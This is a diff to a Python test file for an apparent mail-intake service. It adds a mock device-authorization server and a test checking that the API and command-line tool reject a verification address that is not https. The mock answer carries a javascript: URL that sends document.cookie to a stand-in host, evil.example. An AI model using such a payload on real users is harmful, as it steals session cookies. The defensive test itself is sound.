@@ -3,6 +3,7 @@ proof that no token, secret or password reaches logs, command output or API resp
 
 from __future__ import annotations
 
+import json
 import os
 import queue
 import re
@@ -11,6 +12,7 @@ import sys
 import threading
 import time
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -248,3 +250,66 @@ def test_a_refused_completion_for_another_mailbox_leaves_the_sign_in_intact(
     answer = api.post("/api/v1/mailboxes/paste/authorize/complete", json={"url": final})
     assert answer.json()["authorization_state"] == "authorized", answer.text
     assert api.get("/api/v1/mailboxes/paste/authorization").json()["account"] == ANNA
+
+
+class _DeviceAnswer(BaseHTTPRequestHandler):
+    """A token server whose device authorization answer carries a script as its address."""
+
+    verification_uri = "javascript:fetch('//evil.example/?'+document.cookie)"
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers.get("Content-Length", "0")))
+        body = json.dumps(
+            {
+                "device_code": "dc-1",
+                "user_code": "ABCD-EFGH",
+                "verification_uri": self.verification_uri,
+                "expires_in": 900,
+                "interval": 5,
+                "message": "Open the page and enter ABCD-EFGH",
+            }
+        ).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def scripted_device_server() -> Iterator[str]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _DeviceAnswer)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_device_code_address_that_is_not_https_is_refused(
+    api: TestClient, store: Store, home: Path, database_url: str, scripted_device_server: str
+) -> None:
+    configure(store, scripted_device_server,
+              mailbox("device", "device_code", client_id=NATIVE_APP))  # fmt: skip
+    refused = api.post("/api/v1/mailboxes/device/authorize")
+    assert refused.status_code == 502, refused.text
+    text = refused.text
+    assert "the device authorization endpoint answered verification_uri" in text
+    assert "javascript:fetch" in text
+    assert "not an https:// address" in text
+    assert "user_code" not in refused.json()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MAILINTAKE_")}
+    env.update(MAILINTAKE_HOME=str(home), MAILINTAKE_DATABASE_URL=database_url)
+    cli = subprocess.run(
+        [sys.executable, "-m", "mailintake", "authorize", "device", "--device-code",
+         "--no-browser", "--timeout", "5"],
+        env=env, capture_output=True, text=True, timeout=120, check=False,
+    )  # fmt: skip
+    assert cli.returncode == 4, cli.stderr
+    assert "not an https:// address" in cli.stderr
+    assert "ABCD-EFGH" not in cli.stdout + cli.stderr  # nothing to open was shown
